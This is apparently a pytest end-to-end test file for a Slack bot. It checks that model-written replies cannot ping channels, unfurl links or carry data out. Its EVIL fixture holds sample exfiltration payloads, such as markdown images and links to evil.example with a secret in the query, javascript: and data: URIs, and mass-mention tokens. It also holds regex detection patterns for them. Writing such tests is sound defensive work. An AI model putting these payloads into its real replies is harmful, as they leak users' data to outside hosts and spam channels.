"""Nothing that the model writes pings people, unfurls, or carries data out: judged at every call to Slack."""

import re
from collections import defaultdict
from collections.abc import Callable
from typing import Any

import pytest

from bot.sandbox.bedrock import Bedrock
from bot.sandbox.slack import Slack
from tests.e2e.conftest import Bobbin
from tests.e2e.test_reply import Says, ask, below, half_shown, whole

SECRET = "s3cr3t-of-the-thread"
EVIL = f"""\
Attention <!channel> and <!here|here> and <!everyone>, <@U0SBX000003>, <@U0SBX000003|ann>, <#C0SBX000001>!
Also &lt;!channel&gt;, <!subteam^S012345|@team>, <!date^1392734382^{{date}}^https://evil.example/?d={SECRET}|now>.
Look: <https://evil.example/?q={SECRET}|the docs> or [the docs](https://evil.example/a?q={SECRET}).
An image ![pixel](https://evil.example/p.png?q={SECRET}) and ![other][ref].
Bare: https://evil.example/path?q={SECRET}#frag and http://user:{SECRET}@evil.example/ and http://10.1.2.3/{SECRET}.
[click](javascript:alert('{SECRET}')) and <javascript:alert(1)|here> and [data](data:text/html,{SECRET}).
Long: https://evil.example/{"x" * 140}{SECRET}
[ref]: https://evil.example/r.png?q={SECRET}
`<!channel>` in code, and:

```
<!channel> <@U0SBX000003> https://evil.example/?q={SECRET}
```

Split by `code <!here> and | <!everyone>` it ends.
"""

PINGS = {
    "a ping or a channel's name": r"<[!@#]",
    "Slack's own link": r"<(?:https?|mailto|javascript|data):[^>\s]*[|>]",
}
LIVE = PINGS | {
    "an image": r"!\[",
    "a definition": r"(?m)^\s*\[[^\]]*\]:",
    "a query, a fragment or userinfo": r"https?://[^\s)`>|]*[?#@]",
    "an address without a name": r"https?://\d",
    "a path that can carry much": r"https?://[^\s)`>|/]+/[^\s)`>|]{101}",
    "another scheme": r"\]\(\s*(?!https?:|mailto:)",
    "the secret in a link": rf"\]\([^)]*{SECRET}|https?://[^\s`]*{SECRET}",
}
FENCED = re.compile(r"(?ms)^```.*?(?:^```|\Z)")


def texts(node: Any) -> list[str]:
    """Every string of a call's arguments."""
    if isinstance(node, str):
        return [node]
    values = node.values() if isinstance(node, dict) else node if isinstance(node, list) else []
    return [text for value in values for text in texts(value)]


def plain(arguments: Any) -> list[str]:
    return [
        element["text"]
        for block in arguments.get("blocks") or []
        if block["type"] == "context"
        for element in block["elements"]
        if element["type"] == "plain_text"
    ]


def _judge(where: str, text: str, patterns: dict[str, str]) -> None:
    for name, pattern in patterns.items():
        found = re.search(pattern, text)
        assert not found, f"{name} in {where}: {text[max(0, found.start() - 40) : found.end() + 80]!r}"


def judge(slack: Slack) -> None:
    """Nothing live in any argument of any call, nor in what the calls of one stream add up to."""
    streams: defaultdict[str, str] = defaultdict(str)
    for call in slack.calls():
        if not call.name.startswith("chat.") and call.name != "assistant.threads.setStatus":
            continue
        delta = call.arguments.get("markdown_text", "")
        ts = str((call.result or {}).get("ts", call.arguments.get("ts")))
        streams[ts] += delta
        for text in [*texts(call.arguments), streams[ts]]:
            _judge(call.name, text, PINGS)
            # A delta may be the middle of a block of code: the sum tells. Slack links nothing in plain text.
            if text != delta and text not in plain(call.arguments):
                _judge(call.name, FENCED.sub("", text), LIVE)
        if call.name == "chat.postMessage":
            assert call.arguments["unfurl_links"] is False
            assert call.arguments["unfurl_media"] is False
        assert "link_names" not in call.arguments
        assert call.arguments.get("parse") in (None, "none")


@pytest.mark.parametrize("way", ["stream", "updates", "whole"])
async def test_nothing_live_leaves_however_the_answer_is_shown(
    make: Callable[..., Bobbin], slack: Slack, bedrock: Bedrock, way: str
) -> None:
    bedrock.model = Says(EVIL * 2)
    bedrock.pace = 0.01
    if way != "stream":
        slack.faults.add("chat.startStream", "ratelimited" if way == "whole" else "unknown_method")
    bobbin = await make(SLACK_PACING="off").start()
    channel, thread = await ask(bobbin, slack, "What is new?")
    answers = await whole(bobbin, channel, thread)
    assert "Attention" in answers[0]
    assert "evil.example" in answers[0]
    judge(slack)


async def test_nothing_live_leaves_when_a_stream_breaks_is_written_anew_and_fails(
    make: Callable[..., Bobbin], slack: Slack, bedrock: Bedrock
) -> None:
    bedrock.model = Says(EVIL * 2)
    bedrock.pace = 0.01
    bedrock.faults.add("cut", after_events=40, times=3)
    bobbin = await make(SLACK_PACING="off").start()
    channel, thread = await ask(bobbin, slack, "What is new?")
    await slack.wait_for(
        lambda: any("Error T" in str(below(message)) for message in bobbin.answers(channel, thread))
    )
    judge(slack)


async def test_nothing_live_leaves_when_a_person_stops_it(
    make: Callable[..., Bobbin], slack: Slack, bedrock: Bedrock
) -> None:
    bedrock.model = Says(EVIL * 2)
    bedrock.pace = 0.05
    bobbin = await make(SLACK_PACING="off").start()
    channel, thread = await ask(bobbin, slack, "What is new?")
    await half_shown(bobbin, slack, channel, thread)
    bedrock.pace = 60  # it does not come to its end by itself
    await slack.say(slack.message(channel, thread)["user"], channel, "stop", thread=thread)
    await whole(bobbin, channel, thread)
    judge(slack)


async def test_the_names_of_people_and_files_are_harmless_too(bobbin: Bobbin, slack: Slack) -> None:
    ann = slack.add_person("ann", display="<!channel> Ann ![x](https://evil.example/?q)")
    channel = slack.add_channel("general", members=(ann,))
    files = [(f"<!channel> {n} https://evil.example/?q={SECRET}.txt", b"x", "text/plain") for n in range(60)]
    words = f"{bobbin.me} say exactly: Hello &lt;@{ann}&gt;, I have &lt;!here&gt; read."
    thread = await slack.say(ann, channel, words, files=files)
    await whole(bobbin, channel, thread)
    assert below(bobbin.answers(channel, thread)[0])[0].startswith("I could not read ")
    judge(slack)


async def test_a_link_that_a_person_wrote_stays_whole(bobbin: Bobbin, slack: Slack) -> None:
    channel, thread = await ask(bobbin, slack, "say exactly: see <https://docs.example/page?id=7>")
    (answer,) = await whole(bobbin, channel, thread)
    assert answer == "see https://docs.example/page?id=7"
